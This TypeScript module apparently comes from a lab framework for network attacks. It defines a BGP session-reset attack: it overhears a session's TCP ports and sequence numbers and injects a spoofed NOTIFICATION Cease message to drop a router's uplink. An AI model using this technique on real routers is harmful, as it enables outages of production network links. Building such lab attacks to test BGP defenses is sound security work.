import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attack } from '../attack';
import { notification } from '../speaker/messages';
import { overhear } from './overheard';
import { spoofed } from './spoofed';

/** Cease, Administrative Shutdown (RFC 4486). */
const cease = notification(6, 2);

/** A message of BGP in the name of the neighbor ends the session. */
export const spoofedNotification: Attack = {
  name: 'spoofed-notification',
  summary: 'sends a NOTIFICATION in the name of a border to its PE, with the right ports and numbers, from two hops away',
  attacked: 'the session of an uplink',
  ...spoofed('4 packets/s', async ({ lab, node }, target) => {
    const { sourcePort, destinationPort, next, acknowledged } = await overhear(lab, target);
    const file = join(node.folder, 'notification');
    writeFileSync(file, cease);
    const data = ['-d', String(cease.length), '-E', file];
    return ['-c', '1', '-s', sourcePort, '-p', destinationPort, '-P', '-A', '-M', next, '-L', acknowledged, ...data];
  }),
};
